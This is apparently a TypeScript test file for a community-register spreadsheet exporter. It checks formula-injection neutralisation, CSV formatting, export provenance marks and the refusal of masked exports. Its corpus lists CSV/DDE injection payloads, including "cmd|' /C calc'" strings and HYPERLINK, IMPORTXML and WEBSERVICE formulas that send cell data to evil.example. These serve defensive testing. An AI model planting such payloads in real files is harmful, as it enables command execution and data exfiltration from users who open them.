import { expect, test } from 'vitest';
import { openWorkbook, readRegisterWorkbook, writeCsv, writeRegister } from '../index.ts';
import { markText, readMark } from './mark.ts';
import { neutralise, restoreText } from './neutral.ts';
import type { ExportTable } from './table.ts';

/** What has been used to make a spreadsheet calculate, and what only looks like it. */
const corpus = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"点这里")',
  '=IMPORTXML(CONCAT("https://evil.example?",A2:E2),"//a")',
  '=WEBSERVICE("https://evil.example")',
  "+1+cmd|' /C calc'!A0",
  '+8613800000101',
  '-1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋86',
  '－1',
  '＠SUM(1)',
  '−1',
  "'=1+1",
  "''=1+1",
  "'",
  " 'x",
  '%0A-1+1',
];
const harmless = ['', '张小明', '138****5678', '1=1', 'a@b', '3-2-501', '“=”', 'x\n=1', '，=1', ' 张'];

test('[EX20] a cell that a spreadsheet would take for a formula gets an apostrophe, and loses it again when it is read', () => {
  for (const text of corpus) {
    if (text !== '%0A-1+1') expect([text, neutralise(text)]).toEqual([text, `'${text}`]);
    expect(restoreText(neutralise(text))).toBe(text);
  }
  for (const text of harmless) expect(neutralise(text)).toBe(text);
  // Whatever the text: what is read is what was written.
  for (const text of [...corpus, ...harmless]) {
    for (const before of ["'", '=', ' ', '＝', "' "])
      expect(restoreText(neutralise(before + text))).toBe(before + text);
  }
});

const bytesOf = async (format: 'xlsx' | 'csv', rows: readonly (readonly string[])[]): Promise<Uint8Array> => {
  const table: ExportTable = { title: '示例小区 一网格', fields: ['building', 'room', 'name', 'note'], rows };
  const mark = {
    who: '示例甲 社区书记',
    when: '2026年11月24日 14:03',
    purpose: '上级报送 梧委〔2026〕12号',
    isMasked: false,
  };
  return writeRegister(table, mark, format, new Date(Date.UTC(2026, 10, 24)));
};

test.each(['xlsx', 'csv'] as const)(
  '[EX20] no cell of a %s calculates, whatever stands in the register',
  async (format) => {
    const bytes = await bytesOf(
      format,
      corpus.map((text, index) => ['3', String(index), '示例乙', text]),
    );
    const opened = await openWorkbook(bytes, `x.${format}`);
    if (!opened.ok) throw new Error(opened.error.type);
    const cells = opened.value.sheets[0]?.rows.flat() ?? [];
    expect(cells.length).toBeGreaterThan(corpus.length * 4);
    for (const cell of cells) {
      expect(cell === null || typeof cell === 'string').toBe(true);
      if (cell !== null)
        expect([cell, /^[\s\ufeff]*[=+\-@\t\r\n\0＝＋－＠]/.test(String(cell))]).toEqual([cell, false]);
    }
    if (format === 'xlsx') {
      const { readXlsx } = await import('hucre/xlsx');
      const book = await readXlsx(bytes);
      for (const cell of book.sheets[0]?.cells?.values() ?? []) expect(cell.formula).toBeUndefined();
    }
  },
);

test('[EX20] a CSV is UTF-8 with its mark, every cell in quotes, lines end as RFC 4180 says', () => {
  const bytes = writeCsv([
    ['张"三"', 'a,b'],
    ['一\n二', ''],
  ]);
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(new TextDecoder().decode(bytes)).toBe('"张""三""","a,b"\r\n"一\n二",""\r\n');
});

test('[EX19] who, when and what for stand on the first line, in header and footer, and in the file’s properties', async () => {
  const { readXlsx } = await import('hucre/xlsx');
  const book = await readXlsx(await bytesOf('xlsx', [['3', '501', '示例乙', '']]));
  const line =
    '# 联席导出 1 未遮盖；导出人：示例甲 社区书记；时间：2026年11月24日 14:03；用途：上级报送 梧委〔2026〕12号';
  const [sheet] = book.sheets;
  expect(sheet?.rows[0]?.[0]).toBe(line);
  expect(sheet?.headerFooter?.oddHeader).toContain('示例甲 社区书记');
  for (const part of ['示例甲 社区书记', '2026年11月24日 14:03', '上级报送 梧委〔2026〕12号']) {
    expect(sheet?.headerFooter?.oddFooter).toContain(part);
  }
  expect(book.properties).toMatchObject({
    creator: '示例甲 社区书记',
    description: line,
    custom: {
      导出人: '示例甲 社区书记',
      导出时间: '2026年11月24日 14:03',
      用途: '上级报送 梧委〔2026〕12号',
      遮盖: false,
    },
  });
  expect(sheet?.pageSetup).toMatchObject({ paperSize: 'a4', orientation: 'landscape', printTitlesRow: '$1:$2' });
  const csv = new TextDecoder().decode(await bytesOf('csv', []));
  expect(csv.split('\r\n')[0]).toBe(`"${line}"`);
});

test('[EX22] a masked export of ours is recognised and not read, also when somebody says where its titles are', async () => {
  const table: ExportTable = { title: '', fields: ['room', 'name'], rows: [['501', '示*乙']] };
  const mark = { who: '示例甲', when: '', purpose: '', isMasked: true };
  expect(readMark(markText(mark))).toEqual({ isMasked: true });
  for (const format of ['xlsx', 'csv'] as const) {
    const bytes = await writeRegister(table, mark, format, new Date());
    expect(await readRegisterWorkbook(bytes, `x.${format}`)).toEqual({ ok: false, error: { type: 'Masked' } });
    const opened = await openWorkbook(bytes, `x.${format}`);
    const name = opened.ok ? (opened.value.sheets[0]?.name ?? '') : '';
    const choices = { sheets: { [name]: { header: { first: 1, last: 1 }, isIncluded: true, columns: {} } } };
    expect(await readRegisterWorkbook(bytes, `x.${format}`, choices)).toMatchObject({ error: { type: 'Masked' } });
  }
});
